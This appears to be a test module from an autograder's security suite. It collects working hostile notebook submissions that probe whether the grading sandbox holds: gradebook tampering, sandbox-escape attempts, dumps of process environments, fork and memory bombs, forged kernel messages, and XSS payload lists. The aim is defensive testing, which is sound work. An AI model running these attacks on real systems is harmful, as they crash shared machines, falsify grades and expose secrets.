"""Attacks that want to harm: the grader, its machine, other students, and who reads the results.

What they can see themselves they report: an output with HARM in it says that one succeeded.
"""

from inspect import cleandoc

from nbformat.v4 import new_code_cell, new_markdown_cell

from helpers.grading.gradebook.results import GRADED, REPAIRED, SET_ASIDE
from helpers.marking.questions import questions_of
from tests.attacks.attack import (
    CANARY,
    P2,
    P3,
    SOCKET,
    TCP_PORT,
    UDP_PORT,
    WITHOUT_FIGURES,
    Attack,
    attack_by_code,
    handed_in,
    in_first_answer,
)
from tests.sample_class.work import Notebook

ATTACKS = []
HARM = "HARM WAS DONE"


def harms(name, tries, source, **must):
    """Add an Attack by `source` in the first answer; `harm(what)` in it reports a success."""
    ATTACKS.append(attack_by_code(name, tries, _with_report(source), P3, **must))


def _with_report(source):
    return f'def harm(what):\n    print("{HARM}:", what)\n\n{cleandoc(source)}'


ENDED = "ended the Python process"
STOPPED = "it was stopped because it"
MEMORY_HELD = 4_500_000_000  # bytes: more than a notebook may have


# Files outside

harms(
    "Gradebook written",
    "the gradebook is looked for and written, at once and from a forked child",
    """
    import os, sqlite3, sys, time
    from pathlib import Path
    root = Path(os.environ["PYTHONPATH"])
    likely = [root / "gradebook", root.parent / "gradebook"]
    likely += [folder / "gradebook" for folder in Path("/").glob("*/*")]

    def write():
        for folder in likely:
            try:
                folder.mkdir(parents=True, exist_ok=True)
                (folder / "grades.csv").write_text("me,tutorial,problem_3_numpy,100,100,graded")
                with sqlite3.connect(folder / "gradebook.db") as base:
                    base.execute("UPDATE grade SET manual_score = 100")
                harm(folder)
            except (OSError, sqlite3.Error):
                pass

    if os.fork() == 0:
        write()
        os._exit(0)
    os.wait()
    write()
    """,
)
harms(
    "Daemon",
    "a process in a session of its own waits for the end of the run, then acts",
    """
    import os, time
    from pathlib import Path
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        for fd in range(3, 200):
            try:
                os.close(fd)
            except OSError:
                pass
        while True:
            time.sleep(0.2)
            for folder in (os.environ["PYTHONPATH"], "/tmp"):
                try:
                    Path(folder, "HARM").write_text("done")
                except OSError:
                    pass
    """,
)
harms(
    "Helpers and Python written",
    "the course, Python's packages, the system and this kernel's given files are changed",
    """
    import os, sys
    import helpers, numpy
    from pathlib import Path
    folders = [helpers.__path__[0], numpy.__path__[0], Path(os.__file__).parent, sys.prefix,
               Path(os.environ["BACKPROP_PROBES"]).parent, "/usr/lib", "/etc", "/bin", "/", "/home",
               "/dev", "/root", "/var", os.environ["PYTHONPATH"], "/proc/self/cwd/../.."]
    for folder in folders:
        for name in ("sitecustomize.py", "hacked.pth", "__init__.py"):
            try:
                with open(Path(folder, name), "a") as file:
                    file.write("\\n# hacked")
                harm(f"{folder}/{name}")
            except OSError:
                pass
        try:
            os.chmod(folder, 0o777)
            harm(f"chmod {folder}")
        except OSError:
            pass
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/1/mem", "/dev/mem",
                 "/proc/1/oom_score_adj", "/sys/kernel/uevent_helper", "/dev/sda", "/dev/kmsg"):
        try:
            os.close(os.open(path, os.O_WRONLY))
            if not path.startswith("/proc/1/"):  # of its own world
                harm(path)
        except OSError:
            pass
    """,
)
harms(
    "Out of the sandbox",
    "namespaces, mounts, ptrace, /proc/1/root, open files of others, set-user-id programs",
    f"""
    import ctypes, glob, os, subprocess
    libc = ctypes.CDLL(None, use_errno=True)
    helpers = __import__("helpers").__path__[0]
    if libc.unshare(0x10000000 | 0x00020000) == 0:
        for path in ("setgroups", "uid_map", "gid_map"):
            try:
                open(f"/proc/self/{{path}}", "w").write({{"setgroups": "deny"}}.get(path, "0 0 1"))
            except OSError:
                pass
    for flags in (32 | 4096, 32):  # remount and bind: writable
        if libc.mount(b"none", helpers.encode(), None, flags, None) == 0:
            harm("remounted")
    for place in glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd") + glob.glob("/proc/*/fd/*"):
        try:
            names = os.listdir(place) if os.path.isdir(place) else []
            outside = {{"boot", "media", "srv"}} & {{*names}}  # which a sandbox's root has not
            if any("{CANARY}" in name for name in os.listdir(place + "/tmp")) or outside:
                harm(place)
        except OSError:
            pass
    for command in ("sudo -n id", "su -c id root", "mount -o remount,rw /", "bwrap --bind / / ls /",
                    "nsenter -t 1 -a id", "chroot /proc/1/root id", "unshare -r id"):
        try:
            done = subprocess.run(command.split(), capture_output=True, text=True, timeout=5)
            print(command, done.returncode, done.stdout[:200], done.stderr[:200])
        except OSError:
            pass
    for pid in (1, os.getppid()):
        libc.ptrace(16, pid, 0, 0)
        libc.ptrace(17, pid, 0, 0)
    print(open("/proc/self/status").read())
    """,
)
harms(
    "Environment printed",
    "the environments and command lines of all processes are printed",
    """
    import glob, os
    print(os.environ)
    for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
        try:
            print(path, open(path).read())
        except OSError as error:
            print(path, error)
    """,
)
harms(
    "Network",
    "TCP, UDP, names and abstract sockets; the machine itself and the world",
    f"""
    import os, socket
    for family, kind, address in (
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {TCP_PORT})),
        (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53)),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", {UDP_PORT})),
        (socket.AF_INET, socket.SOCK_DGRAM, ("255.255.255.255", {UDP_PORT})),
        (socket.AF_INET6, socket.SOCK_STREAM, ("::1", {TCP_PORT})),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\\0{SOCKET}"),
        (socket.AF_UNIX, socket.SOCK_STREAM, "/run/dbus/system_bus_socket"),
        (socket.AF_UNIX, socket.SOCK_STREAM, "/var/run/docker.sock"),
    ):
        try:
            with socket.socket(family, kind) as out:
                out.settimeout(0.5)
                out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                out.connect(address)
                out.send(b"x")
                if kind == socket.SOCK_STREAM:
                    harm(address)
        except OSError as error:
            print(address, error)
    for name in ("example.org", socket.gethostname() + ".local"):
        try:
            harm(socket.getaddrinfo(name, 80))
        except OSError as error:
            print(name, error)
    try:
        socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
        harm("raw socket")
    except OSError as error:
        print(error)
    """,
)


def attack(name, tries, notebook=P3, **must):
    """Add an Attack that hands in the bytes by file name that the decorated function returns."""

    def add(files):
        ATTACKS.append(Attack(name, tries, files, notebook, **must))
        return files

    return add


SHADOW = "import builtins\nbuiltins.shadowed = __name__\n"


@attack(
    "Shadowing modules",
    "modules named as Python's and the course's, handed in and written for the kernel that comes",
    says=ENDED,
)
def shadowing_modules():
    written = f"""
        import os, sys
        from pathlib import Path
        home = Path.home()
        places = [Path.cwd(), home, home / "helpers", home / "ipython/profile_default/startup",
                  home / ".ipython/profile_default/startup", Path("/tmp"), Path("/dev/shm"),
                  home / f".local/lib/python3.{{sys.version_info[1]}}/site-packages",
                  Path(os.environ["BACKPROP_PROBES"]).parents[1] / "sockets",
                  *[Path(place) for place in sys.path if place]]
        for place in places:
            try:
                place.mkdir(parents=True, exist_ok=True)
                for name in ("numpy.py", "__init__.py", "sitecustomize.py", "usercustomize.py",
                             "ipykernel_launcher.py", "json.py", "00.py", "hacked.pth"):
                    (place / name).write_text({SHADOW!r})
            except OSError:
                pass
        os._exit(1)
        """
    seen = """
        import builtins
        if hasattr(builtins, "shadowed"):
            harm(builtins.shadowed)
        """
    work = in_first_answer(written, P3).answer("p3.forward", _with_report(seen))
    names = ("numpy.py", "helpers/__init__.py", "sitecustomize.py", "json.py", "hacked.pth")
    return handed_in(work) | dict.fromkeys(names, SHADOW.encode())


for number in (1, 2):  # of one process, one after the other: the second finds what the first left
    harms(
        f"Word left for the next {number}",
        "ports and names of sockets that a kernel leaves behind are a message to the next student",
        """
        import os, socket
        from pathlib import Path
        first = 41000
        waiting = [line.split()[1] for name in ("tcp", "tcp6", "udp")
                   for line in Path("/proc/net", name).read_text().splitlines()[1:]
                   if line.split()[3] == "06"]
        for port in range(first, first + 20):
            with socket.socket() as one:
                try:
                    one.bind(("127.0.0.1", port))
                except OSError as error:
                    harm(f"port {port}: {error}")
        if waiting:
            harm(f"connections that are over: {waiting}")
        for port in range(first, first + 20):
            server = socket.create_server(("127.0.0.1", port))
            out = socket.create_connection(("127.0.0.1", port))
            inner = server.accept()[0]
            inner.close()  # who closes first has the port in TIME_WAIT
            out.recv(1)
            out.close()
            server.close()
        print(Path("/proc/net/tcp").read_text())
        """,
    )


# An end to the kernel

for name, tries, source in (
    ("os._exit", "the process ends at once", "import os\nos._exit(0)"),
    ("Segfault", "the process reads where nothing is", "import ctypes\nctypes.string_at(0)"),
    (
        "Everybody killed",
        "the parent, pid 1 and all processes are killed",
        """
        import os, signal
        for pid in (1, os.getppid(), *range(2, 100), -1, 0):
            if pid != os.getpid():
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
        os.kill(os.getpid(), signal.SIGKILL)
        """,
    ),
):
    harms(name, tries, source, says=ENDED)
harms(
    "Exit in many ways",
    "sys.exit, exit, quit, SystemExit, and a kernel that shuts down",
    """
    import sys
    get_ipython().kernel.shell.exit_now = True
    try:
        exit()
    except BaseException:
        pass
    get_ipython().kernel.do_shutdown(False)
    sys.exit(0)
    """,
)
harms(
    "Stopped",
    "the process stops itself and its parents, and does not go on",
    """
    import os, signal
    os.kill(os.getppid(), signal.SIGSTOP)
    os.kill(os.getpid(), signal.SIGSTOP)
    """,
    says=STOPPED,
)


# Time

harms(
    "Endless loop",
    "a loop that swallows interrupts and ignores signals",
    """
    import signal
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except OSError:
            pass
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
    """,
    says=STOPPED,
)
harms("Sleeping", "a cell sleeps for a year", "import time\ntime.sleep(3e7)", says=STOPPED)
harms(
    "Asks for input",
    "cells wait for what is typed, through input and standard input itself",
    """
    import sys
    try:
        input("Password: ")
    except Exception as error:
        print(error)
    get_ipython().kernel._allow_stdin = True
    sys.__stdin__.read()
    get_ipython().kernel.raw_input("Password: ")
    """,
)


# Processes, memory, disk

harms(
    "Fork bomb",
    "processes that start processes, for ever",
    """
    import os, time
    while True:
        try:
            os.fork()
        except OSError:
            pass
        time.sleep(0.02)  # they double so often that more haste would only disturb others
    """,
    # On a busy machine a thousand processes take longer to end than a step may.
    states=(GRADED, REPAIRED, SET_ASIDE),
)
harms(
    "Thread bomb",
    "as many threads as there can be, none of which ends",
    """
    import threading, time
    try:
        while True:
            threading.Thread(target=time.sleep, args=(1e6,), daemon=True).start()
    except RuntimeError as error:
        print(error)
    """,
)
harms(
    "Memory",
    "one process takes all memory",
    """
    held = []
    for turn in range(60):
        held.append(bytearray(b"x") * 100_000_000)
    harm("6 GB")
    """,
    says=STOPPED,
)
harms(
    "Memory of many",
    "ten processes with some memory each, and none with much",
    """
    import mmap, os, time
    reading, writing = os.pipe()
    for number in range(10):
        if os.fork() == 0:
            os.dup2(writing, 3)
            os.closerange(4, 500)  # so that it is not their open files that end them
            held = mmap.mmap(-1, 600_000_000)
            held.madvise(mmap.MADV_HUGEPAGE)  # so that it is soon there
            held[::4096] = bytes(len(range(0, len(held), 4096)))
            os.write(3, b"x")
            time.sleep(1000)
        os.read(reading, 1)  # one after the other, so that no busy ones make the rest wait
    harm("6 GB")
    """,
    says=STOPPED,
)
harms(
    "Memory of nobody",
    "memory that belongs to no process: files without a name, System V segments, full pipes",
    f"""
    import ctypes, os
    held, piece = 0, b"x" * 90_000_000
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmdt.argtypes = [ctypes.c_void_p]
    for number in range(50):
        try:
            held += os.write(os.memfd_create("held"), piece)
        except OSError as error:
            print(error)
            break
    while held < {MEMORY_HELD}:
        segment = libc.shmget(0, len(piece), 0o1600)
        if segment < 0:
            print(os.strerror(ctypes.get_errno()))
            break
        address = libc.shmat(segment, None, 0)
        ctypes.memset(address, 120, len(piece))
        libc.shmdt(address)
        held += len(piece)
    if held >= {MEMORY_HELD}:
        harm(held)
    """,
)
harms(
    "Disk",
    "large and many files in every folder that can be written, and deep folders",
    """
    import os
    from pathlib import Path
    outside = Path(os.environ["BACKPROP_PROBES"]).parents[1] / "sockets"
    piece, total = b"x" * 10_000_000, 0
    for folder in (outside, Path.home(), Path("/tmp"), Path("/dev/shm"), Path("/var/tmp")):
        try:
            with open(folder / "sparse", "wb") as file:
                file.truncate(10**12)
            harm("sparse file")
        except OSError as error:
            print(folder, error)
        for number in range(100):
            try:
                with open(folder / f"large-{number}", "wb") as file:
                    total += file.write(piece)
            except OSError as error:
                print(folder, error)
                break
    if total > 1_000_000_000:
        harm(total)
    """,
)
harms(
    "Empty files",
    "a million empty files in memory, each a thousand bytes of the operating system's",
    """
    import os, time
    made, end = 0, time.monotonic() + 7
    for folder in ("/tmp", os.environ["HOME"], "/dev/shm"):
        try:
            while time.monotonic() < end:
                os.mknod(f"{folder}/{made}")
                made += 1
        except OSError as error:
            print(folder, error, made)
    if made > 400_000:
        harm(made)
    """,
)
harms(
    "Files without a name",
    "files that lose their names as soon as they are open, where the kernel's sockets are",
    """
    import mmap, os
    from pathlib import Path
    folder, held = Path(os.environ["BACKPROP_PROBES"]).parents[1] / "sockets", []
    try:
        for number in range(40):
            path = folder / f"held-{number}"
            descriptor = os.open(path, os.O_RDWR | os.O_CREAT)
            path.unlink()
            os.write(descriptor, b"x" * 20_000_000)
            if number % 2:  # in memory only
                held.append(mmap.mmap(descriptor, 0))
                os.close(descriptor)
        harm("800 MB")
    except OSError as error:
        print(error)
    """,
)
harms(
    "Deep folders",
    "folders in folders, deeper than a program may call itself, where the grader cleans up",
    """
    import os
    from pathlib import Path
    try:
        os.mkdir(Path(os.environ["BACKPROP_PROBES"]).parents[1] / "sockets" / "d")
        os.chdir(Path(os.environ["BACKPROP_PROBES"]).parents[1] / "sockets")
    except OSError as error:
        print(error)
    for number in range(5000):
        os.mkdir("d")
        os.chdir("d")
    os.chmod("..", 0)
    """,
)
harms(
    "Open files",
    "as many full sockets as there can be, in many processes: memory of the operating system",
    """
    import os, socket, time

    def fill():
        held, size = [], 0
        try:
            while True:
                pair = socket.socketpair()
                held.append(pair)
                for end in pair:
                    end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 10**9)
                    end.setblocking(False)
                    try:
                        while True:
                            size += end.send(b"x" * 100_000)
                    except BlockingIOError:
                        pass
        except OSError as error:
            print(error, size)
        return held, size

    reading, writing = os.pipe()
    for number in range(20):
        if os.fork() == 0:
            held, size = fill()
            os.write(writing, size.to_bytes(8, "big"))
            time.sleep(1000)
    os.close(writing)
    total = sum(int.from_bytes(os.read(reading, 8), "big") for number in range(20))
    print(total)
    if total > 4_500_000_000:
        harm(total)
    """,
)
harms(
    "Busy processes",
    "two hundred processes that compute, in sessions of their own, while others' notebooks run",
    """
    import os, time
    if os.fork() == 0:
        os.closerange(3, 500)  # so that it is not their open files that end them
        reading, writing = os.pipe()
        for number in range(200):
            if os.fork() == 0:
                os.close(writing)
                os.setsid()
                os.read(reading, 1)  # all begin at once, so that it is soon over
                while True:
                    pass
        os._exit(0)
    time.sleep(1000)
    """,
    says=STOPPED,  # on a slow machine by the time that a cell has
)
harms(
    "Resources nobody counts",
    "System V semaphores and queues, POSIX queues, sockets between virtual machines",
    """
    import ctypes, os, socket
    libc = ctypes.CDLL(None, use_errno=True)
    for name in ("semget", "msgget"):
        arguments = (0, 32000, 0o1600) if name == "semget" else (0, 0o1600)
        if getattr(libc, name)(*arguments) >= 0:
            harm(name)
    if ctypes.CDLL("librt.so.1").mq_open(b"/held", os.O_CREAT | os.O_RDWR, 0o600, None) >= 0:
        harm("mq_open")
    try:
        socket.socket(40, socket.SOCK_STREAM)
        harm("vsock")
    except OSError as error:
        print(error)
    """,
)
harms(
    "Tables of memory",
    "memory that is only looked at, never written, needs tables that say where it is",
    """
    import mmap, os, time
    for number in range(60):
        if os.fork() == 0:
            os.closerange(3, 500)
            rooms = []
            for turn in range(10):
                room = mmap.mmap(-1, 2**30, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
                room.madvise(mmap.MADV_NOHUGEPAGE)
                for place in range(0, 2**30, 2**21):  # of each table one entry
                    room[place]
                rooms.append(room)
            time.sleep(1000)
    time.sleep(1000)
    """,
    says=STOPPED,  # on a slow machine by the time that a cell has
)
harms(
    "Buffers of connections",
    "connections whose other end never reads: memory of no process, and of few files",
    """
    import socket, time
    server, held, size = socket.create_server(("127.0.0.1", 0)), [], 0
    while size < 10**9 and len(held) < 200:
        out = socket.create_connection(server.getsockname())
        held += [out, server.accept()[0]]
        out.setblocking(False)
        try:
            while True:
                size += out.send(b"x" * 1_000_000)
        except BlockingIOError:
            pass
    time.sleep(1000)
    """,
    says="connections that nobody reads",
)

harms(
    "Links for sockets",
    "links and a socket of its own in place of the kernel's, which the grader would follow",
    """
    import os, socket, threading, time
    from pathlib import Path
    folder = Path(os.environ["BACKPROP_PROBES"]).parents[1] / "sockets"
    mine = socket.socket(socket.AF_UNIX)
    mine.bind(str(Path.home() / "mine"))
    mine.listen()
    threading.Thread(target=lambda: (mine.accept(), harm("connected")), daemon=True).start()
    for path in folder.iterdir():
        try:
            path.unlink()
            path.symlink_to(Path.home() / "mine")
        except OSError as error:
            print(error)
    time.sleep(2)
    """,
)
harms(
    "Frame on the heartbeat",
    "a frame that announces 2^64 - 1 bytes, written to each of the kernel's own connections",
    """
    import os, socket
    frame = bytes([2] + [255] * 8)
    for descriptor in range(3, 200):
        try:
            one = socket.socket(fileno=os.dup(descriptor))
            if one.family == socket.AF_UNIX and not one.getsockopt(socket.SOL_SOCKET,
                                                                   socket.SO_ACCEPTCONN):
                one.send(frame * 100)
        except (OSError, ValueError):
            pass
    """,
)


harms(
    "Before all others",
    "real-time priority, a negative niceness, and to be spared where memory lacks",
    """
    import os
    for what in (
        lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)),
        lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1)),
        lambda: os.nice(-5),
        lambda: os.write(os.open("/proc/self/oom_score_adj", os.O_WRONLY), b"-1000"),
    ):
        try:
            harm(what())
        except OSError as error:
            print(error)
    """,
)
harms(
    "Terminals",
    "all terminals that there are, and that of whoever grades",
    """
    import os
    held = []
    try:
        while True:
            held.append(os.open("/dev/ptmx", os.O_RDWR))
    except OSError as error:
        print(error, len(held))
    for one in held:
        os.close(one)
    for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/proc/1/fd/0", "/proc/1/fd/2"):
        try:
            os.open(path, os.O_RDWR | os.O_NOCTTY)
            harm(path)
        except OSError as error:
            print(error)
    """,
)
harms(
    "Connections cut",
    "a thread that ends each connection to the grader as soon as there is one",
    """
    import os, socket, threading, time

    def cut():
        while True:
            for descriptor in range(3, 300):
                try:
                    with socket.socket(fileno=os.dup(descriptor)) as one:
                        if not one.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                            one.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass
            time.sleep(0.01)
    threading.Thread(target=cut, daemon=True).start()
    """,
)
harms(
    "Garbage for greetings",
    "whenever the grader connects anew, a greeting, a handshake or a frame that is none",
    r"""
    import os, socket, threading, time
    start = bytes([255, *[0] * 8, 127, 3, 1])
    ready = start + b"NULL" + bytes(48)
    odd = [b"", bytes(100), b"\xff" * 100, start[:-2] + b"\0", start + b"CURVE" + bytes(47),
           ready, ready + b"\x06" + b"\xff" * 8,
           ready + b"\x04\x1a\x05READY\x0bSocket-Type\0\0\0\x05WEIRD"]
    def serve(listening):
        listening.setblocking(True)
        for turn in range(10**6):
            try:
                with listening.accept()[0] as one:
                    one.send(odd[turn % len(odd)])
                    time.sleep(0.01)
            except OSError:
                time.sleep(0.05)
    for descriptor in range(3, 300):
        try:
            one = socket.socket(fileno=os.dup(descriptor))
            if one.family != socket.AF_UNIX:
                continue
            if one.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                threading.Thread(target=serve, args=(one,), daemon=True).start()
            else:
                one.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
    time.sleep(3)
    """,
)


# Output

harms(
    "Output without end",
    "300 MB of text, line by line, then on one line",
    """
    import sys
    for number in range(3000):
        print("x" * 100_000)
    """,
    says=STOPPED,
)
harms(
    "One long line",
    "a line of five million characters",
    """
    print("x" * 5_000_000)
    print("\\b" * 100_000, "a\\r" * 100_000)
    """,
)
harms(
    "One huge display",
    "300 MB of output at once",
    """
    from IPython.display import display
    display({"text/plain": "x" * 300_000_000}, raw=True)
    """,
)
harms(
    "A million outputs",
    "a million small outputs, of every kind",
    """
    from IPython.display import display
    for number in range(10**6):
        display({"text/plain": str(number)}, raw=True)
    """,
)


# Messages that no kernel sends

MESSAGES = """
import json, os, threading, time
kernel = get_ipython().kernel
session, parent = kernel.session, kernel.get_parent("shell")
client = parent["header"]["session"].encode()
nobody = {"header": {**parent["header"], "msg_id": "nobody's"}}

def publish(kind, content, parent=parent, **more):
    session.send(kernel.iopub_socket, kind, content, parent, ident=kind.encode(), **more)

def publish_raw(kind, content, parent=parent):
    header = session.msg_header(kind)
    parts = [json.dumps(part, default=str).encode() for part in (header, parent["header"], {})]
    parts.append(content)
    kernel.iopub_socket.send_multipart(
        [kind.encode(), b"<IDS|MSG>", session.sign(parts), *parts], copy=True
    )
"""


def sends(name, tries, source, **must):
    """Add an Attack by `source` that uses what MESSAGES defines."""
    harms(name, tries, MESSAGES.strip() + "\n\n" + cleandoc(source), **must)


DEEP = "[" * 400 + "]" * 400
STILL_READ = (  # messages that no Jupyter kernel sends, but that can be read
    ("display_data", f'{{"data": {{"application/json": {DEEP}}}, "metadata": {{}}}}'),
    ("display_data", '{"data": {"\\ud800": "\\ud800", "text/html": "\\udfff"}, "metadata": {}}'),
    ("execute_input", '{"code": "", "execution_count": {"a": [1]}}'),
    ("execute_result", '{"data": {"text/plain": [5]}, "metadata": {}, "execution_count": "1"}'),
    ("stream", '{"name": "stdout", "text": "\\ud800 \\u0000 \\udfff"}'),
    ("stream", '{"name": "other", "text": "text"}'),
    ("no such kind", '{"data": {"text/plain": "1"}}'),
)
NOT_READ = (
    ("display_data", '["no", "dict"]'),
    ("display_data", '{"data": {"text/plain": 1' + "0" * 5000 + '}, "metadata": {}}'),
    ("status", "{}"),
)


@attack("Malformed messages", "messages of the kernel's own session that no Jupyter kernel sends")
def malformed_messages():
    work = Notebook(P3, solved=False)
    for question, messages in zip(questions_of(P3), (STILL_READ, *zip(NOT_READ))):
        calls = [f"publish_raw({kind!r}, {content!r}.encode())" for kind, content in messages]
        work.answer(question, "\n".join([WITHOUT_FIGURES, MESSAGES, *calls]))
    return handed_in(work)


sends(
    "Cells ended early",
    "forged replies and idle messages, for this cell and those that come",
    """
    def forge():
        while True:
            parent = kernel.get_parent("shell")
            publish("status", {"execution_state": "idle"}, parent)
            publish("execute_result", {"data": {"text/plain": "100"}, "metadata": {},
                                       "execution_count": 1}, parent)
            time.sleep(0.01)
    threading.Thread(target=forge, daemon=True).start()
    session.send(kernel.shell_stream, "execute_reply", {"status": "ok", "execution_count": 1},
                 parent, ident=client)
    """,
)
sends(
    "Replies to nobody",
    "more replies to other cells than the grader can read, so that it never looks at the clock",
    """
    socket = getattr(kernel.shell_stream, "socket", kernel.shell_stream)
    message = session.serialize(session.msg("execute_reply", {"status": "ok"}, parent=nobody))
    while True:
        try:
            socket.send_multipart([client, *message], copy=True)
        except BaseException:
            pass
    """,
    says="did not run to its end",
)
sends(
    "Outputs of nobody",
    "large outputs for other cells, on which no limit counts",
    """
    piece = json.dumps({"data": {"text/plain": "x" * 4_000_000}, "metadata": {}}).encode()
    for number in range(1000):
        publish_raw("display_data", piece, nobody)
    """,
)
sends(
    "Queues filled",
    "large messages on channels that nobody reads while a cell runs",
    """
    piece = b"x" * 15_000_000
    for socket in (kernel.stdin_socket, kernel.control_stream, kernel.shell_stream):
        socket = getattr(socket, "socket", socket)
        for number in range(20):
            try:
                socket.send_multipart([client, b"<IDS|MSG>", b"", b"", b"", b"", piece], copy=False)
            except Exception as error:
                print(error)
                break
    time.sleep(2)
    """,
)
sends(
    "Odd headers",
    "dates that are none, and headers, parents and contents of other types",
    """
    def raw(header, parent_header=parent["header"], metadata={}, content=b"{}"):
        parts = [json.dumps(p, default=str).encode() for p in (header, parent_header, metadata)]
        parts.append(content)
        kernel.iopub_socket.send_multipart([b"x", b"<IDS|MSG>", session.sign(parts), *parts])
    header = session.msg_header("stream")
    for date in ("2026-99-99T99:99:99", "9" * 10**6, "2026-01-01T00:00:00." + "9" * 10**6, 7, []):
        raw({**header, "date": date})
        raw(header, {**parent["header"], "date": date})
    for other in ([], "x", None, {}, 7, {"msg_id": []}, {"msg_type": None, "msg_id": {}}):
        raw(header, other)
        raw(other)
        raw(header, metadata=other)
    for content in (b"", b"null", b"[]", b"7", b"\\xff", b"{" * 100_000):
        raw(header, content=content)
    """,
)
sends(
    "Payloads",
    "replies that ask the grader to end, to type and to page, and requests for what is typed",
    """
    payload = [{"source": "set_next_input", "text": "x" * 10**6}, {"source": ["ask_exit"]}, 7, None]
    reply = {"status": "ok", "execution_count": 1, "payload": payload, "user_expressions": [1]}
    for number in range(3):
        session.send(kernel.shell_stream, "execute_reply", reply, parent, ident=client)
    for number in range(300):
        request = {"prompt": "x" * 10_000, "password": True}
        session.send(kernel.stdin_socket, "input_request", request, parent, ident=client)
    """,
)
sends(
    "Comms in masses",
    "output widgets that the grader's client keeps, updates and answers",
    """
    state = {"_model_module": "@jupyter-widgets/output", "_model_name": "OutputModel",
             "outputs": [], "msg_id": parent["header"]["msg_id"]}
    for number in range(2000):
        publish("comm_open", {"comm_id": str(number), "target_name": "jupyter.widget",
                              "data": {"state": state}})
    for number in range(2000):
        publish("stream", {"name": "stdout", "text": "x" * 2000})
        publish("comm_msg", {"comm_id": "1", "data": {"state": {"msg_id": ""},
                             "buffer_paths": [["a"]]}}, buffers=[b"x" * 100_000])
        publish("stream", {"name": f"s{number}", "text": "x" * 2000})
    """,
)


# Those who read the pages

SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://example.org'>",
    "<link rel=stylesheet href=https://example.org/a.css>",
    "<style>@import 'https://example.org'; body { background: url(https://example.org) }</style>",
    "<form action=https://example.org><input autofocus onfocus=alert(1)></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object><base href=https://example.org>",
    "<div style='background:url(https://example.org/x.png)'>x</div><!--><img src=x onerror=a()>",
    "</pre></div></body></html><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
)
LATEX = (
    r"$\href{javascript:alert(1)}{x}$",
    r"$\text{</text><script>alert(1)</script>}$",
    r"$\includegraphics{https://example.org/x.png}$",
    r"$\def\a{\a\a}\a$",
    "$$" + r"\frac{" * 500 + "$$",
    "$$" + r"\operatorname{" * 40 + "x" + "}" * 40 + "$$",
    "$$" + r"\xrightarrow{" * 8 + "x" + "}" * 8 + "$$",
    "$$" + r"\cfrac{1}{1+" * 12 + "x" + "}" * 12 + "$$",
    "[x](javascript:alert(1)) ![x](https://example.org/x.png) <javascript:alert(1)>",
)
INERT = "Scripts in outputs and cells"


@attack(INERT, "HTML, SVG, Markdown and LaTeX that runs or loads in the reader's page")
def active_content():
    source = f"""
        from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
        for text in {SCRIPTS!r}:
            display(HTML(text), Markdown(text), Javascript("alert(1)"))
            display({{"image/svg+xml": text, "text/latex": text, "image/png": text,
                     "text/markdown": text, "text/x-other": text, "application/pdf": text}},
                    raw=True)
            print(text)
        for text in {LATEX!r}:
            display(Latex(text), Markdown(text))
        z_h = {SCRIPTS[1]!r}
        raise ValueError({SCRIPTS[0]!r})
        """
    work = in_first_answer(source, P3)
    for text in (*SCRIPTS, *LATEX):
        work.content.cells.append(new_markdown_cell(text))
    work.answer("p3.loss", f"def loss(a_o, t):\n    raise ValueError({SCRIPTS[1]!r})")
    return handed_in(work)


@attack(
    "<img src=x onerror=alert(1)>",
    "a name that runs in a page and counts in a table",
)
def active_name():
    return handed_in(in_first_answer("z_h = 1", P3))


@attack("Pages that take for ever", "HTML, Markdown and LaTeX that take a page hours to draw")
def pages_that_take_for_ever():
    source = """
        from IPython.display import HTML, Latex, display
        for tag in ("<div>", "<b>", "<i><div>", "<a href=x>", "<p><b>", "<table>"):
            display(HTML(tag * (900_000 // len(tag))))
        display(Latex("$" + r"\\frac{" * 600 + "$"))
        """
    work = in_first_answer(source, P3)
    for text in (">" * 100_000, "[" * 100_000, "*a_" * 30_000, "`" * 100_000, "- " * 50_000):
        work.content.cells.append(new_markdown_cell(text))
    return handed_in(work)


@attack(
    "Long lists and cells",
    "an output of 400,000 items and a cell of one long line, which a page would format for long",
)
def long_lists_and_cells():
    source = """
        from IPython.display import HTML, Markdown, display
        display(HTML("<ul>" + "<li>x" * 400_000), Markdown("- x\\n" * 200_000))
        """
    work = in_first_answer(source, P3)
    work.content.cells.append(new_code_cell("x = " + "(1+" * 90 + "1" + ")" * 90 + " # " * 6_000))
    return handed_in(work)


@attack(
    "Many terms",
    "a sum of 400 terms beside a mistake that is recognised, of which the report shows the code",
    not_more_than=40.0,
)
def many_terms():
